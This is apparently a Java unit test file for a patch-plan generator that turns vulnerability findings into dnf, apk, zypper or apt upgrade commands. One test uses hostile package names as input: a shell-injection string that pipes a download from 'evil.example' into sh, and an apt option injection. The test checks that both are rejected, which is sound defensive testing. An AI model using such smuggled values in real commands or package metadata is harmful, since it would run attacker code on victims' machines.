package dev.palisade.match;

import static org.assertj.core.api.Assertions.assertThat;

import dev.palisade.inventory.Ecosystem;
import dev.palisade.inventory.Location;
import dev.palisade.inventory.OsRelease;
import dev.palisade.inventory.Package;
import dev.palisade.vulndb.VulnerabilityStore;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class PatchPlanTest {
    private static final OsRelease ROCKY = os("rocky", "9.3", "rhel centos fedora");
    private static final OsRelease DEBIAN = os("debian", "12", null);
    private static final OsRelease ALPINE = os("alpine", "3.19.1", null);

    @Test
    void shouldTakeTheLowestFixAboveTheInstalledVersionNotAFixOfAnOlderBranch() {
        Package openssl = rpm("openssl", "1:3.0.7-24.el9", "1");
        // fixed in 1:3.0.1-1.el9 on an older branch, and in 1:3.0.7-25.el9 and 1:3.0.7-27.el9 after it
        Finding f = finding(
                openssl,
                "RLSA-2024:1",
                Severity.HIGH,
                false,
                List.of("1:3.0.1-1.el9", "1:3.0.7-25.el9", "1:3.0.7-27.el9"));

        PatchPlan plan = PatchPlan.of(List.of(f), List.of(openssl), ROCKY);

        assertThat(plan.manager()).isEqualTo("dnf");
        assertThat(plan.packages()).singleElement().satisfies(u -> {
            assertThat(u.fixedVersion()).isEqualTo("1:3.0.7-25.el9");
            assertThat(u.argument()).isEqualTo("openssl-1:3.0.7-25.el9");
        });
        assertThat(plan.command()).isEqualTo("dnf install openssl-1:3.0.7-25.el9");
    }

    @Test
    void shouldOrderKnownExploitedThenSeverityAndCloseEveryFindingOfAPackageAtOnce() {
        Package curl = rpm("curl", "7.76.1-26.el9", null);
        Package sudo = rpm("sudo", "1.9.5p2-9.el9", null);
        Package expat = rpm("expat", "2.5.0-1.el9", null);
        List<Finding> findings = List.of(
                finding(curl, "RLSA-2024:10", Severity.CRITICAL, false, List.of("7.76.1-29.el9")),
                finding(curl, "RLSA-2024:11", Severity.LOW, false, List.of("7.76.1-31.el9")),
                finding(sudo, "RLSA-2024:12", Severity.MEDIUM, true, List.of("1.9.5p2-10.el9")),
                finding(expat, "RLSA-2024:13", Severity.HIGH, false, List.of("2.5.0-2.el9")),
                finding(expat, "RLSA-2024:14", Severity.UNKNOWN, false, List.of()));

        PatchPlan plan = PatchPlan.of(findings, List.of(curl, sudo, expat), ROCKY);

        assertThat(plan.packages()).extracting(PatchPlan.Upgrade::name).containsExactly("sudo", "curl", "expat");
        PatchPlan.Upgrade curlUpgrade = plan.packages().get(1);
        assertThat(curlUpgrade.fixedVersion()).isEqualTo("7.76.1-31.el9");
        assertThat(curlUpgrade.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(curlUpgrade.vulnerabilities()).containsExactly("RLSA-2024:10", "RLSA-2024:11");
        assertThat(plan.packages().get(2).vulnerabilities()).containsExactly("RLSA-2024:13");
    }

    @Test
    void shouldMoveEveryBinaryOfAnAffectedSourceAndUseApkAndZypperWhereTheyBelong() {
        Package libcrypto = apk("libcrypto3", "3.1.4-r0", "openssl");
        Package libssl = apk("libssl3", "3.1.4-r0", "openssl");
        Package busybox = apk("busybox", "1.36.1-r15", "busybox");
        Finding f = finding(libcrypto, "CVE-2024-0727", Severity.MEDIUM, false, List.of("3.1.4-r5"));

        PatchPlan plan = PatchPlan.of(List.of(f), List.of(libcrypto, libssl, busybox), ALPINE);

        assertThat(plan.manager()).isEqualTo("apk");
        assertThat(plan.packages())
                .extracting(PatchPlan.Upgrade::argument)
                .containsExactly("libcrypto3=3.1.4-r5", "libssl3=3.1.4-r5");
        assertThat(plan.packages().get(1).vulnerabilities()).containsExactly("CVE-2024-0727");
        assertThat(plan.command()).isEqualTo("apk add libcrypto3=3.1.4-r5 libssl3=3.1.4-r5");

        Package suse = rpm("libopenssl3", "3.0.8-150500.5.8.1", null);
        PatchPlan zypper = PatchPlan.of(
                List.of(finding(suse, "SUSE-SU-2024:1", Severity.HIGH, false, List.of("3.0.8-150500.5.20.1"))),
                List.of(suse),
                os("opensuse-leap", "15.5", "suse opensuse"));
        // no SUSE advisories are matched yet, so the plan is empty; the manager is still zypper
        assertThat(zypper.manager()).isEqualTo("zypper");
    }

    @Test
    void shouldNeverPutAHostileNameOnTheCommandLineAndQuoteWhatAShellWouldExpand() {
        Package hostile = deb("x;curl${IFS}evil.example|sh", "1.0-1", "evil");
        Package option = deb("-oAPT::Update::Pre-Invoke::=id", "1.0-1", "evil2");
        Package tilde = deb("libfoo1", "1.0-1", "foo");
        List<Finding> findings = List.of(
                finding(hostile, "DSA-1", Severity.HIGH, false, List.of("1.0-2")),
                finding(option, "DSA-2", Severity.HIGH, false, List.of("1.0-2")),
                finding(tilde, "DSA-3", Severity.HIGH, false, List.of("1:~1.1-1")));

        PatchPlan plan = PatchPlan.of(findings, List.of(hostile, option, tilde), DEBIAN);

        assertThat(plan.packages()).extracting(PatchPlan.Upgrade::name).containsExactly("libfoo1");
        assertThat(plan.leftOut()).hasSize(2);
        assertThat(plan.command()).isEqualTo("apt-get install --only-upgrade 'libfoo1=1:~1.1-1'");
        assertThat(PatchPlan.quote("a'b")).isEqualTo("'a'\\''b'");
    }

    private static OsRelease os(String id, String version, @Nullable String like) {
        return new OsRelease(id, version, null, null, like, Location.of("etc/os-release"));
    }

    private static Package rpm(String name, String version, @Nullable String epoch) {
        String plain = version.contains(":") ? version.substring(version.indexOf(':') + 1) : version;
        return new Package(
                Ecosystem.RPM,
                name,
                plain,
                "pkg:rpm/rocky/" + name + "@" + plain,
                List.of(Location.of("var/lib/rpm/rpmdb.sqlite")),
                name + "-" + plain + ".src.rpm",
                null,
                "rpm",
                epoch == null ? Map.of() : Map.of("epoch", epoch));
    }

    private static Package apk(String name, String version, String origin) {
        return new Package(
                Ecosystem.ALPINE,
                name,
                version,
                "pkg:apk/alpine/" + name + "@" + version,
                List.of(Location.of("lib/apk/db/installed")),
                origin,
                null,
                "apk",
                Map.of());
    }

    private static Package deb(String name, String version, String source) {
        return new Package(
                Ecosystem.DEBIAN,
                name,
                version,
                "pkg:deb/debian/" + name + "@" + version,
                List.of(Location.of("var/lib/dpkg/status")),
                source,
                version,
                "dpkg",
                Map.of());
    }

    private static Finding finding(Package p, String id, Severity severity, boolean kev, List<String> fixes) {
        return new Finding(
                p,
                id,
                List.of(id),
                List.of(id),
                List.of(),
                id,
                severity,
                "test",
                null,
                kev ? new VulnerabilityStore.KevEntry(id, "2024-01-01", "2024-01-22", "Unknown", id) : null,
                fixes,
                fixes.isEmpty() ? null : fixes.get(0),
                List.of(),
                null,
                Finding.Status.AFFECTED,
                "");
    }
}
